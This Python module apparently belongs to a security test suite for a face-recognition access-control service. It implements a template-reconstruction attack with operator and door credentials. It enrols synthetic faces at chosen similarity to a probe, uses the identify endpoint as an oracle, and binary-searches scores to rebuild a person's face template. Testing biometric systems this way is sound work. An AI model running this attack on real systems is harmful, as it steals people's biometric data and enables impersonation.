"""An operator's and a door's key in one hand, against one person. A library of p7_no_oracle.py.

For a probe near a photo the operator enrols a made-up face of a chosen cosine to that probe; identify names whichever is nearer. So
each answer compares the victim's score with a number, and a dozen of them are the score. As many probes as there are dimensions
give the template.
"""
import math

import numpy

import p7_attacks as attacks
from vault import base64_of

TILT = 0.2    # radians from the photo to each probe
STEPS = 9     # halvings of the interval in which a score lies
SUBJECTS = "/v1/sites/main/subjects/"


class Accomplices:
    def __init__(self, vault, door):
        self.vault, self.door = vault, door
        self.desk, self.gate = vault.connect("operator/1"), vault.connect("door/2")
        self.asked = self.enrolled = 0
        self.refusal = None

    def call(self, who, connection, method, path, body=None):
        answer = self.vault.ask(who, method, path, body, connection=connection)
        if answer.status // 100 != 2:
            self.refusal = answer.problem
            raise attacks.Ended
        return answer

    def nearer_than(self, probe, made_up):
        """True if identify names somebody else than the made-up face, or nobody: the victim is nearer to the probe."""
        name = f"made-up-{self.enrolled}"
        self.enrolled += 1
        self.call("operator/1", self.desk, "PUT", SUBJECTS + name, self.vault.consent())
        self.call("operator/1", self.desk, "POST", SUBJECTS + name + "/templates", {"model": "face", "template": base64_of(made_up)})
        self.asked += 1
        said = self.call("door/2", self.gate, "POST", "/v1/sites/main/identify",
                         {"door": self.door, "model": "face", "probe": base64_of(probe)}).json
        self.call("operator/1", self.desk, "DELETE", SUBJECTS + name)
        return said.get("subject") != name


def score(accomplices, random, probe, low, high):
    for _ in range(STEPS):
        middle = (low + high) / 2
        if accomplices.nearer_than(probe, attacks.at_cosine(random, probe, middle)):
            low = middle
        else:
            high = middle
    return (low + high) / 2


def attack(accomplices, photo, random, threshold):
    """The guess, a unit vector; what was known before where it was ended before the last score."""
    dimension = len(photo)
    axes, _ = numpy.linalg.qr(numpy.column_stack([photo, random.standard_normal((dimension, dimension - 1))]))
    axes[:, 0] = photo
    try:
        along = score(accomplices, random, photo, threshold, 1.0)
        guess = along * photo
        for u in axes.T[1:]:
            u = u - (u @ photo) * photo
            probe = attacks.unit(math.cos(TILT) * photo + math.sin(TILT) * attacks.unit(u))
            tilted = score(accomplices, random, probe, threshold, 1.0)
            guess = guess + (tilted - math.cos(TILT) * along) / math.sin(TILT) * attacks.unit(u)
        return attacks.unit(guess)
    except attacks.Ended:
        return photo
